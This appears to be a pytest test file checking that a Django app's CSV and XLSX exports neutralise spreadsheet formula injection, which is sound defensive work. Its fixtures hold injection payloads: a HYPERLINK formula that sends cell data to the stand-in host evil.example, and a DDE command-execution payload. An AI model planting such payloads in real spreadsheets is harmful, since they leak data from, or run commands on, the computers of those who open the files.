"""Spreadsheet formulas in exported cells are neutralised in every CSV and XLSX we write."""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from django.core.management import call_command
from django.test import Client
from django.urls import reverse

from liuyanban.analytics import rollups
from liuyanban.api.models import ApiToken
from liuyanban.campaigns import actions as campaign_actions
from liuyanban.campaigns.models import Campaign
from liuyanban.core import tabular
from liuyanban.lifecycle.models import Message, Status
from liuyanban.taxonomy.models import Domain
from liuyanban.testing.campaigns import open_campaign
from liuyanban.testing.world import World, today

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
    "+1+1",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    '{=cmd|" /C calc"!A0}',
]
TITLE = '=HYPERLINK("http://evil.example","路灯")'


def _csv(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def _cells(rows: list[list[str]]) -> list[str]:
    return [cell for row in rows for cell in row]


def _unsafe(cells: list[Any]) -> list[str]:
    """Text cells a spreadsheet would run as a formula."""
    return [c for c in cells if isinstance(c, str) and c.startswith(tabular.FORMULA_START)]


def _xlsx_formula_cells(content: bytes) -> list[tuple[str, Any]]:
    """Cells that are formulas, or formula-like text without Excel's quote prefix."""
    book = openpyxl.load_workbook(io.BytesIO(content))
    bad = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f" or (
                    isinstance(cell.value, str)
                    and cell.value.startswith(tabular.FORMULA_START)
                    and not cell.quotePrefix
                ):
                    bad.append((cell.coordinate, cell.value))
    return bad


def _xlsx_text(content: bytes) -> list[Any]:
    book = openpyxl.load_workbook(io.BytesIO(content))
    return [c.value for s in book.worksheets for row in s.iter_rows() for c in row]


# --- the one writer ---------------------------------------------------------------------


@pytest.mark.parametrize("value", FORMULAS)
def test_csv_cells_get_an_apostrophe(value: str) -> None:
    rows = _csv(tabular.csv_bytes([[value, 42, -3, None]]))
    assert rows == [["'" + value, "42", "-3", ""]]


def test_harmless_text_and_numbers_are_unchanged() -> None:
    rows = _csv(tabular.csv_bytes([["路灯不亮", "a=b", 1.5, -7]], header=["标题", "x", "y", "z"]))
    assert rows == [["标题", "x", "y", "z"], ["路灯不亮", "a=b", "1.5", "-7"]]


def test_xlsx_cells_are_text_with_quote_prefix() -> None:
    content = tabular.xlsx_bytes([tabular.Sheet("表", ["值", "数"], [[f, -1] for f in FORMULAS])])
    assert _xlsx_formula_cells(content) == []
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    # The value reads exactly as typed (openpyxl leaves CR in Excel's escape); numbers stay numbers.
    values = [sheet.cell(i + 2, 1).value.replace("_x000D_", "\r") for i in range(len(FORMULAS))]
    assert values == FORMULAS
    assert sheet.cell(2, 2).value == -1


def test_csv_streams_in_chunks() -> None:
    chunks = list(tabular.csv_chunks(([str(i)] for i in range(1000)), header=["n"]))
    assert len(chunks) > 3  # not one big string


# --- every output --------------------------------------------------------------------------


@pytest.fixture
def token(world: World) -> dict[str, str]:
    _, secret = ApiToken.issue(user=world.olga, name="export")
    return {"Authorization": f"Bearer {secret}"}


def _evil_message(world: World) -> Message:
    return world.message_in(
        Status.PUBLISHED,
        title=TITLE,
        body="-1+1 幸福路的路灯三个月不亮了，请尽快修复。",
        location="{=1+1} 幸福路",
    )


def test_message_export_csv(world: World, token: dict[str, str]) -> None:
    _evil_message(world)
    response = Client().get("/api/v1/exports/messages.csv", headers=token)
    assert response.status_code == 200
    rows = _csv(b"".join(response.streaming_content))  # type: ignore[attr-defined]
    assert _unsafe(_cells(rows)) == []
    assert "'" + TITLE in _cells(rows) and "'{=1+1} 幸福路" in _cells(rows)


def test_message_export_xlsx(world: World, token: dict[str, str]) -> None:
    _evil_message(world)
    response = Client().get("/api/v1/exports/messages.xlsx", headers=token)
    content = b"".join(response.streaming_content)  # type: ignore[attr-defined]
    assert _xlsx_formula_cells(content) == []
    assert TITLE in _xlsx_text(content)


def test_export_command_files(world: World, tmp_path: Path) -> None:
    _evil_message(world)
    out = tmp_path / "m.csv"
    call_command("export_messages", "--output", str(out), stdout=io.StringIO())
    assert _unsafe(_cells(_csv(out.read_bytes()))) == []
    book = tmp_path / "m.xlsx"
    call_command("export_messages", "--output", str(book), "--format", "xlsx", stdout=io.StringIO())
    assert _xlsx_formula_cells(book.read_bytes()) == []


@pytest.fixture
def campaign(world: World) -> Campaign:
    return open_campaign(world, title="=1+1 食堂反浪费征集")


def _adopted(world: World, campaign: Campaign) -> None:
    s = campaign_actions.submit_suggestion(
        author=world.alice,
        campaign_id=campaign.pk,
        draft=campaign_actions.SuggestionDraft(
            title="@SUM(1,2) 推行小份菜", body="+建议单位食堂推行小份菜和半份菜，减少浪费。"
        ),
    )
    campaign_actions.publish_suggestion(actor=world.mona, suggestion_id=s.pk)
    campaign_actions.adopt_suggestion(actor=world.olga, suggestion_id=s.pk, response="-已采纳")


def test_campaign_results_csv_for_anyone(world: World, campaign: Campaign) -> None:
    _adopted(world, campaign)
    response = Client().get(reverse("web:campaign_results_csv", args=[campaign.pk]))
    rows = _csv(b"".join(response.streaming_content))  # type: ignore[attr-defined]
    cells = _cells(rows)
    assert _unsafe(cells) == []
    assert "'=1+1 食堂反浪费征集" in cells and "'-已采纳" in cells


def test_campaign_review_csv(world: World, campaign: Campaign) -> None:
    _adopted(world, campaign)
    client = Client()
    client.force_login(world.olga)
    response = client.get(reverse("web:campaign_review_csv", args=[campaign.pk]))
    rows = _csv(b"".join(response.streaming_content))  # type: ignore[attr-defined]
    assert len(rows) == 2
    assert _unsafe(_cells(rows)) == []


@pytest.fixture
def evil_report(world: World) -> str:
    Domain.objects.filter(code="urban").update(name="=2+5")
    world.message_in(Status.CLOSED)
    rollups.rebuild()
    year = today().year
    return f"?office={world.province.code}&start={year}-01-01&end={year}-12-31"


def test_statistics_report_csv(client: Client, evil_report: str) -> None:
    url = reverse("web:stats_report_download", args=["csv"]) + evil_report + "&table=shares"
    response = client.get(url)
    assert response.status_code == 200
    cells = _cells(_csv(response.content))
    assert "'=2+5" in cells and _unsafe(cells) == []


def test_statistics_report_xlsx(client: Client, evil_report: str) -> None:
    response = client.get(reverse("web:stats_report_download", args=["xlsx"]) + evil_report)
    assert _xlsx_formula_cells(response.content) == []
    assert "=2+5" in _xlsx_text(response.content)


def test_hot_issue_tables(tmp_path: Path) -> None:
    from liuyanban.intelligence.hot.csvio import write_csv

    write_csv(tmp_path / "t.csv", ["问题描述"], [["=1+1"]])
    assert _csv((tmp_path / "t.csv").read_bytes()) == [["问题描述"], ["'=1+1"]]


def test_verbatim_data_files_keep_text() -> None:
    """Data files read back by tools (``redact_file``) opt out explicitly."""
    assert _csv(tabular.csv_bytes([["=1+1"]], verbatim=True)) == [["=1+1"]]
